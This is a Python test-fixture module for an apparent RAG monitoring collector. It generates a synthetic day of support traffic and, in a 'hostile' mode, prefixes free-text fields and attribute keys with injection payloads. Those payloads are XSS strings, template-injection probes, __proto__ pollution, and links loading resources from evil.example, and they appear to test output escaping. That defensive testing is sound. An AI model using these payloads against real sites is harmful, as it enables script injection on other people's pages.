"""What the made-up day is made of: topics, times, ids, and the attacks of the hostile one."""

import hashlib
import re
from datetime import UTC, datetime, timedelta
from typing import Any

from ragpulse_collector.refusals import Invalid
from ragpulse_collector.zones import DAYS

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
EVALUATORS = ("groundedness", "context_utilization", "citation_check", "refusal")
UNITS = {
    "requests": "count",
    "errors": "count",
    "error_rate": "share",
    "input_tokens": "tokens",
    "output_tokens": "tokens",
    "cost_usd": "usd",
    "latency_p50": "ms",
    "latency_p95": "ms",
    "latency_p99": "ms",
}
TOPICS = (
    (
        "How do I reset a forgotten password?",
        "Open the sign-in page and choose Forgot password. A link arrives in five minutes. It works for an hour.",
        "account/password.md",
    ),
    (
        "Which plans include single sign-on?",
        "Single sign-on is part of the Business plan. Team plans may add it. Trials include it for 90 days.",
        "billing/plans.md",
    ),
    (
        "How long are backups kept?",
        "Backups are kept for 35 days. Older backups are moved to cold storage. Restores from cold storage are free.",
        "operations/backups.md",
    ),
    (
        "Can I export my data as Parquet?",
        "Yes. Use Export in the project menu and choose Parquet. Exports larger than 10 GB are split into parts.",
        "data/export.md",
    ),
    (
        "What happens when an invoice is overdue?",
        "We send a reminder after 7 days. After 30 days the project becomes read-only. No data is deleted.",
        "billing/invoices.md",
    ),
)
HOSTILE = (
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=1">',
    "'><svg onload=window.__pwned=1>",
    "javascript:window.__pwned=1//",
    "</textarea></title></style></script><script>window.__pwned=1</script>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<a href=javascript:window.__pwned=1 hx-get=https://evil.example/x hx-trigger=load>x</a>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>__proto__",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "__proto__",
    "\u202egnp.exe\u0000\U0001f600 <style>*{display:none}</style>",
    "W" * 90,
)


def iso(moment: datetime) -> str:
    """The contract's way to write a time."""
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


def hexid(text: str, length: int) -> str:
    """A stable id."""
    return hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()[:length]


def moment_of(value: Any, default: datetime) -> datetime:
    """A `from` or `to` parameter, relative or ISO."""
    if not value:
        return default
    text = str(value)
    if text in DAYS:
        return NOW.replace(hour=0) - timedelta(days=DAYS.index(text))
    if text.startswith("-") and text[-1] in "smhd" and text[1:-1].isdigit():
        names = {"s": "seconds", "m": "minutes", "h": "hours", "d": "days"}
        return NOW - timedelta(**{names[text[-1]]: int(text[1:-1])})
    try:
        return datetime.fromisoformat(text)
    except ValueError:
        raise Invalid(f"`from` is neither a time nor like -24h: {text}") from None


_TIME = re.compile(r"\d{4}-\d\d-\d\dT")
"""No sender chooses how a time is written."""
KEPT = frozenset(
    [
        "trace_id",
        "span_id",
        "parent_span_id",
        "start_time",
        "t",
        "from",
        "to",
        "unit",
        "users_are",
        "status",
        "created_at",
        "newest_span",
        "run_id",
        "next",
        "newest",
        "as_of",
        "verdict",
        ".metrics.name",
        ".heatmap.x",
        ".targets.state",
        ".watched.state",
        ".monitors.state",
        ".monitors.history.state",
        ".monitors.source",
        ".monitors.window",
        "since",
        "mute_until",
        "last_seen",
        "need_more_of",
        ".gaps.kind",
        ".runs.purpose",
        ".runs.population.of",
        ".runs.order",
    ]
)
"""Fields that stay valid in the hostile day: ids, times and enumerations, and the metrics of charts."""


def poison(value: Any, path: str = "") -> Any:
    """Hostile text into every free text field and every attribute key."""
    if isinstance(value, dict):
        return {_key(key, path): poison(item, f"{path}.{key}") for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [poison(item, path) for item in value]
    if not isinstance(value, str) or _TIME.match(value) or {path, path.rpartition(".")[2]} & KEPT:
        return value
    number = int(hexid(path + value, 8), 16) % len(HOSTILE)
    return HOSTILE[number] + " " + value


def _key(key: str, path: str) -> str:
    return HOSTILE[len(key) % len(HOSTILE)] if path.endswith(("s.attributes", ".metadata")) else key
